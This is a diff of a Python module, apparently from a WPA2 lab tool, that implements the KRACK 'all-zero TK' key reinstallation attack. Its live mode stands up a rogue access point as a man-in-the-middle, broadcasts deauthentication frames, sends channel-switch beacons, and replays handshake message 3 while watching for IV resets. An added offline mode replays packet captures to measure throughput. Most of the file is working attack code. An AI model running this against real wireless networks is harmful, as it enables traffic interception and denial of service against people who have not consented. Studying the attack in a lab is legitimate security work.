@@ -1,14 +1,124 @@
 # krack_attack.py
 """
 Módulo interno que implementa el ataque KRACK "all-zero TK" sin depender de un repositorio externo.
+
+El estado por cliente (`KrackMachine`) no hace E/S: recibe frames ya
+decodificados (`pcapng_io`, sin scapy) y programa sus temporizadores
+(beacons CSA, timeout de cada ataque) en un heap. Así lo comparten el modo en
+vivo (sockets del MitM) y la réplica offline de una captura (`replay`), que
+mide frames/s y la latencia por frame de la demo sin radios.
 """
-from scapy.all import *
-import time, heapq, atexit, select
-from mitm_channel_based.mitm_code import MitmChannelBased
-from mitm_channel_based.log_messages import log, INFO, STATUS, DEBUG, WARNING, ERROR
+from __future__ import annotations
+import atexit, heapq, itertools, logging, select, time
+from pathlib import Path
+from typing import NamedTuple, Optional
+
+import pcapng_io
+
+try:
+    from scapy.all import Dot11, Dot11Deauth, Dot11Disas, raw
+except ImportError:                       # la réplica offline no necesita scapy
+    Dot11 = None
+try:
+    from mitm_channel_based.mitm_code import MitmChannelBased
+    from mitm_channel_based.log_messages import log, INFO, STATUS, DEBUG, WARNING, ERROR
+except ImportError:
+    MitmChannelBased = None
+    DEBUG, INFO, STATUS, WARNING, ERROR = (logging.DEBUG, logging.INFO, logging.INFO,
+                                           logging.WARNING, logging.ERROR)
+
+    def log(level, msg, color=None, showtime=True):
+        logging.getLogger("krack").log(level, msg)
+
+ATTACK_TIMEOUT = 1.5                      # s sin reinstalación → ataque fallido
+CSA_INTERVAL = 0.1                        # s entre beacons CSA (modo continuo)
+
+
+# ── temporizadores ───────────────────────────────────────────
+class Scheduler:
+    """
+    Heap de temporizadores [cuándo, nº, callback, args]. El reloj lo pone
+    quien llama (monotonic en vivo, timestamps de la captura en la réplica);
+    cancelar sólo anula el callback y la entrada se descarta al salir.
+    """
+
+    def __init__(self):
+        self.heap: list[list] = []
+        self.seq = itertools.count()
+
+    def at(self, when: float, fn, *args) -> list:
+        ev = [when, next(self.seq), fn, args]
+        heapq.heappush(self.heap, ev)
+        return ev
+
+    @staticmethod
+    def cancel(ev: Optional[list]):
+        if ev:
+            ev[2] = None
+
+    def timeout(self, now: float, cap: float = 1.0) -> float:
+        """s hasta el próximo vencimiento (para select), como mucho `cap`."""
+        while self.heap and self.heap[0][2] is None:
+            heapq.heappop(self.heap)
+        return max(0.0, min(cap, self.heap[0][0] - now)) if self.heap else cap
+
+    def run_due(self, now: float) -> int:
+        """Ejecuta lo vencido; cada callback recibe su hora programada."""
+        n = 0
+        while self.heap and self.heap[0][0] <= now:
+            when, _, fn, args = heapq.heappop(self.heap)
+            if fn:
+                fn(when, *args)
+                n += 1
+        return n
+
+
+# ── frames ───────────────────────────────────────────────────
+AUTH, ASSOC_REQ, ASSOC_RESP, EAPOL, DATA = range(1, 6)
+
+
+class Frame(NamedTuple):
+    ts:     float
+    client: str
+    to_ap:  bool              # lo transmite el cliente
+    kind:   int
+    msgnum: int               # 1-4 si es EAPOL-Key
+    replay: int
+    iv:     Optional[int]     # PN CCMP de un frame de datos protegido
+
+
+def decode_frame(linktype: int, data: bytes, ts: float, apmac: str) -> Optional[Frame]:
+    """Frame entre `apmac` y un cliente, o None si no interesa al ataque."""
+    info = pcapng_io.decode(linktype, data)
+    if info is None or info.bssid != apmac or info.client == apmac:
+        return None
+    if int(info.client[:2], 16) & 1:              # broadcast/multicast: no es un cliente
+        return None
+    o = pcapng_io.dot11_offset(linktype, data)
+    flags = data[o + 1]
+    to_ap = pcapng_io.mac(data[o + 10:o + 16]) != apmac
+    iv = None
+    if info.ftype == 0:
+        kind = {11: AUTH, 0: ASSOC_REQ, 2: ASSOC_REQ, 1: ASSOC_RESP, 3: ASSOC_RESP}.get(info.subtype)
+    elif info.ftype == 2 and info.eapol:
+        kind = EAPOL
+    elif info.ftype == 2 and flags & 0x40:
+        kind = DATA
+        b = o + 24 + (6 if flags & 3 == 3 else 0) + (2 if info.subtype & 8 else 0)
+        if len(data) >= b + 8:
+            iv = data[b] | data[b + 1] << 8 | int.from_bytes(data[b + 4:b + 8], "little") << 16
+    else:
+        kind = None
+    if kind is None:
+        return None
+    return Frame(ts, info.client, to_ap, kind, info.eapol, info.replay, iv)
 
+
+# ── estado por cliente ───────────────────────────────────────
 class ClientState:
     Initializing, Connecting, GotMitm, Attack_Started, Success_Reinstalled, Success_AllzeroKey, Failed = range(7)
+    NAMES = ["Initializing", "Connecting", "GotMitm", "Attack_Started",
+             "Success_Reinstalled", "Success_AllzeroKey", "Failed"]
 
     def __init__(self, macaddr):
         self.macaddr = macaddr
@@ -20,18 +130,21 @@ class ClientState:
         self.assocreq = None
         self.msg1 = None
         self.msg3s = []
+        self.replays = set()              # replay counters de los msg3 ya vistos
         self.msg4 = None
 
     def store_msg1(self, pkt):
         self.msg1 = pkt
 
-    def add_if_new_msg3(self, pkt):
-        rep = get_eapol_replaynum(pkt)
-        if rep not in [get_eapol_replaynum(p) for p in self.msg3s]:
-            self.msg3s.append(pkt)
+    def add_if_new_msg3(self, pkt, replay: int) -> bool:
+        if replay in self.replays:
+            return False
+        self.replays.add(replay)
+        self.msg3s.append(pkt)
+        return True
 
     def update_state(self, new):
-        log(DEBUG, f"Client {self.macaddr} -> state {new}")
+        log(DEBUG, f"Client {self.macaddr} -> state {ClientState.NAMES[new]}")
         self.state = new
 
     def mark_got_mitm(self):
@@ -39,32 +152,96 @@ class ClientState:
             self.state = ClientState.GotMitm
             log(STATUS, f"Got MitM on {self.macaddr}", color="green")
 
-    def should_forward(self, pkt):
-        num = get_eapol_msgnum(pkt)
+    def should_forward(self, f: Frame) -> bool:
         if self.state in (ClientState.Connecting, ClientState.GotMitm, ClientState.Attack_Started):
-            return Dot11Auth in pkt or Dot11AssoReq in pkt or Dot11AssoResp in pkt or (1 <= num <= 3)
+            return f.kind in (AUTH, ASSOC_REQ, ASSOC_RESP) or (f.kind == EAPOL and 1 <= f.msgnum <= 3)
         return self.state == ClientState.Success_AllzeroKey
 
-    def attack_start(self):
-        self.attack_time = time.time()
+    def attack_start(self, now: float):
+        self.attack_time = now
         self.update_state(ClientState.Attack_Started)
 
     def is_iv_reset(self, iv):
         return self.state == ClientState.Attack_Started and iv == 1
 
-    def attack_timeout(self, iv):
-        return self.state == ClientState.Attack_Started and self.attack_time + 1.5 < time.time()
+    def attack_timeout(self, now: float):
+        return self.state == ClientState.Attack_Started and self.attack_time + ATTACK_TIMEOUT <= now
+
+
+class KrackMachine:
+    """Máquina de estados del ataque para todos los clientes de `apmac` (sin E/S)."""
+
+    def __init__(self, apmac: str, target: Optional[str] = None, sched: Optional[Scheduler] = None):
+        self.apmac = apmac.upper()
+        self.target = target.upper() if target else None
+        self.sched = sched or Scheduler()
+        self.clients: dict[str, ClientState] = {}
+        self.timers: dict[str, list] = {}
+        self.stats = {"frames": 0, "forwarded": 0, "msg3_dup": 0, "attacks": 0,
+                      "reinstalled": 0, "failed": 0}
+
+    def client(self, mac: str) -> ClientState:
+        c = self.clients.get(mac)
+        if c is None:
+            c = self.clients[mac] = ClientState(mac)
+        return c
+
+    def on_frame(self, f: Frame, rogue: bool = True) -> bool:
+        """Procesa un frame (visto en el canal rogue o en el real); True = reenviarlo."""
+        self.stats["frames"] += 1
+        if self.target and f.client != self.target:
+            return True                               # otros clientes: puente transparente
+        c = self.client(f.client)
+        if f.to_ap and f.kind in (AUTH, ASSOC_REQ):
+            if rogue:
+                c.mark_got_mitm()
+            if f.kind == ASSOC_REQ:
+                c.assocreq = f
+        elif f.kind == EAPOL:
+            if f.msgnum == 1 and not f.to_ap:
+                c.store_msg1(f)
+            elif f.msgnum == 3 and not f.to_ap:
+                if not c.add_if_new_msg3(f, f.replay):
+                    self.stats["msg3_dup"] += 1
+                elif len(c.msg3s) >= 2 and c.state == ClientState.GotMitm:
+                    self._start(c, f.ts)
+            elif f.msgnum == 4 and f.to_ap:
+                c.msg4 = f
+        elif f.kind == DATA and f.to_ap and f.iv is not None and c.is_iv_reset(f.iv):
+            c.update_state(ClientState.Success_Reinstalled)
+            Scheduler.cancel(self.timers.pop(c.macaddr, None))
+            self.stats["reinstalled"] += 1
+            log(STATUS, f"Client {c.macaddr} reinstalled the key (IV reset)", color="green")
+        fwd = c.should_forward(f)
+        self.stats["forwarded"] += fwd
+        return fwd
+
+    def _start(self, c: ClientState, now: float):
+        c.attack_start(now)
+        self.stats["attacks"] += 1
+        self.timers[c.macaddr] = self.sched.at(now + ATTACK_TIMEOUT, self._timeout, c)
+
+    def _timeout(self, now: float, c: ClientState):
+        self.timers.pop(c.macaddr, None)
+        if c.attack_timeout(now):
+            c.update_state(ClientState.Failed)
+            self.stats["failed"] += 1
+            log(WARNING, f"Client {c.macaddr}: no key reinstallation within {ATTACK_TIMEOUT}s")
+
 
+# ── modo en vivo ─────────────────────────────────────────────
 class KRAckAttack:
     def __init__(self, real_iface, rogue_iface, ether_iface, ssid, target_mac=None, continuous_csa=False):
+        if MitmChannelBased is None or Dot11 is None:
+            raise RuntimeError("faltan scapy / mitm_channel_based (sólo la réplica offline funciona sin ellos)")
         self.real = real_iface
         self.rogue = rogue_iface
         self.ether = ether_iface
         self.ssid = ssid
         self.target = target_mac
         self.continuous = continuous_csa
-        self.clients = {}
-        self.queue = []
+        self.sched = Scheduler()
+        self.machine = None
         self.mitm = MitmChannelBased(real_iface, rogue_iface, rogue_iface, ether_iface, ssid, target_mac)
         atexit.register(self.stop)
 
@@ -73,42 +250,106 @@ class KRAckAttack:
         self.mitm.sock_rogue.send(pkt)
         log(STATUS, f"Disas to {mac}", color="green")
 
+    def _beacon(self, when: float):
+        self.mitm.send_csa_beacon(newchannel=self.mitm.rogue_channel, silent=True)
+        self.sched.at(when + CSA_INTERVAL, self._beacon)          # ritmo fijo, sin deriva
+
+    def _handle(self, sock, other, rogue: bool):
+        pkt = sock.recv()
+        if pkt is None or Dot11 not in pkt:
+            return
+        f = decode_frame(pcapng_io.LT_80211, raw(pkt[Dot11]), time.monotonic(), self.machine.apmac)
+        if f and self.machine.on_frame(f, rogue):
+            other.send(pkt)
+
+    def _handle_hostapd(self):
+        line = self.mitm.hostapd.stdout.readline()
+        if line:
+            log(DEBUG, f"hostapd: {line.rstrip()}")
+
     def run(self):
         self.mitm.run()
+        self.machine = KrackMachine(self.mitm.apmac, self.target, self.sched)
         # initial deauth
         deauth = Dot11(addr1="ff:ff:ff:ff:ff:ff", addr2=self.mitm.apmac, addr3=self.mitm.apmac)/Dot11Deauth(reason=3)
         self.mitm.sock_real.send(deauth)
-        next_beacon = time.time()
+        if self.continuous:
+            self.sched.at(time.monotonic(), self._beacon)
+        real, rogue, hostapd = self.mitm.sock_real, self.mitm.sock_rogue, self.mitm.hostapd.stdout
         while True:
-            r,_,_ = select.select([self.mitm.sock_real, self.mitm.sock_rogue, self.mitm.hostapd.stdout], [], [], 0.1)
-            if self.mitm.sock_real in r: self._handle_real()
-            if self.mitm.sock_rogue in r: self._handle_rogue()
-            if self.mitm.hostapd.stdout in r: self._handle_hostapd()
-            if self.continuous and time.time() >= next_beacon:
-                self.mitm.send_csa_beacon(newchannel=self.mitm.rogue_channel, silent=True)
-                next_beacon = time.time() + 0.1
+            r, _, _ = select.select([real, rogue, hostapd], [], [], self.sched.timeout(time.monotonic()))
+            if real in r: self._handle(real, rogue, rogue=False)
+            if rogue in r: self._handle(rogue, real, rogue=True)
+            if hostapd in r: self._handle_hostapd()
+            self.sched.run_due(time.monotonic())
 
     def stop(self):
         log(STATUS, "Cleaning up hostapd...", color="yellow")
         if self.mitm.hostapd: self.mitm.hostapd.terminate()
         if self.mitm.hostapd_log: self.mitm.hostapd_log.close()
 
-# ----------------- wpa2lab_cli.py modifications -----------------
-# Importa el módulo:
-# from krack_attack import KRAckAttack
-
-@app.command("krack-attack")
-def krack_attack(
-    real: str = typer.Option(None, "--real", "-r", help="Interface modo monitor real"),
-    rogue: str = typer.Option(None, "--rogue", "-R", help="Interface del rogue AP"),
-    ether: str = typer.Option(..., "--eth", help="Interface ethernet para el rogue AP"),
-    ssid: str = typer.Argument(..., help="SSID objetivo"),
-    target: str = typer.Option(None, "--target", help="MAC cliente específico"),
-    continuous: bool = typer.Option(False, "--continuous-csa"),
-):
-    """Lanza un ataque KRACK "all-zero TK" sin repos externos."""
-    real_iface = real or resolve_iface("monitor", None)
-    rogue_iface = rogue or resolve_iface("ap", None, exclude=[real_iface])
-    console.print(Panel.fit(f"[magenta]KRACK Attack[/magenta]\nReal: {real_iface}  Rogue: {rogue_iface}\nSSID: {ssid}", title="KRACK"))
-    attack = KRAckAttack(real_iface, rogue_iface, ether, ssid, target, continuous)
-    attack.run()
+
+# ── réplica offline ──────────────────────────────────────────
+def _find_ap(path: str | Path, essid: Optional[str]) -> Optional[str]:
+    """BSSID del beacon con `essid` o, sin él, del primer EAPOL-Key."""
+    with pcapng_io.open_capture(path) as fh:
+        for pkt in pcapng_io.iter_packets(fh):
+            info = pcapng_io.decode(pkt.linktype, pkt.data)
+            if info is None:
+                continue
+            if essid is None and info.eapol:
+                return info.bssid
+            if essid is not None and info.ftype == 0 and info.subtype in (5, 8) \
+                    and pcapng_io.beacon_essid(pkt.linktype, pkt.data) == essid:
+                return info.bssid
+    return None
+
+
+def replay(path: str | Path, apmac: Optional[str] = None, essid: Optional[str] = None,
+           target: Optional[str] = None, csa: bool = False) -> dict:
+    """
+    Reproduce una captura pcapng contra `KrackMachine` sin radios. El reloj es
+    el de la propia captura, así que los temporizadores (timeout del ataque,
+    beacons CSA con `csa`) vencen igual que en vivo. Todos los frames se
+    tratan como vistos en el canal rogue. Devuelve frames/s y la latencia
+    de despacho por frame (µs).
+    """
+    apmac = (apmac or _find_ap(path, essid) or "").upper()
+    if not apmac:
+        raise ValueError(f"{path}: no encuentro el AP (usa --ap o --essid)")
+    sched = Scheduler()
+    machine = KrackMachine(apmac, target, sched)
+    beacons, ended = [0], [False]
+
+    def beacon(when):
+        if not ended[0]:                          # sin más frames no hay más beacons
+            beacons[0] += 1
+            sched.at(when + CSA_INTERVAL, beacon)
+
+    lat: list[float] = []
+    total, last = 0, None
+    perf = time.perf_counter
+    t0 = perf()
+    with pcapng_io.open_capture(path) as fh:
+        for pkt in pcapng_io.iter_packets(fh):
+            total += 1
+            t = perf()
+            if last is None and csa:
+                sched.at(pkt.ts, beacon)
+            last = pkt.ts
+            sched.run_due(pkt.ts)
+            f = decode_frame(pkt.linktype, pkt.data, pkt.ts, apmac)
+            if f:
+                machine.on_frame(f)
+            lat.append(perf() - t)
+    ended[0] = True
+    if last is not None:
+        sched.run_due(last + ATTACK_TIMEOUT)          # vencen los ataques pendientes
+    elapsed = perf() - t0
+    lat.sort()
+    pct = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] * 1e6 if lat else 0.0
+    return {"ap": apmac, "packets": total, "elapsed": elapsed,
+            "pps": total / elapsed if elapsed else 0.0,
+            "lat_p50_us": pct(0.50), "lat_p99_us": pct(0.99), "lat_max_us": pct(1.0),
+            "csa_beacons": beacons[0], **machine.stats,
+            "clients": {m: ClientState.NAMES[c.state] for m, c in machine.clients.items()}}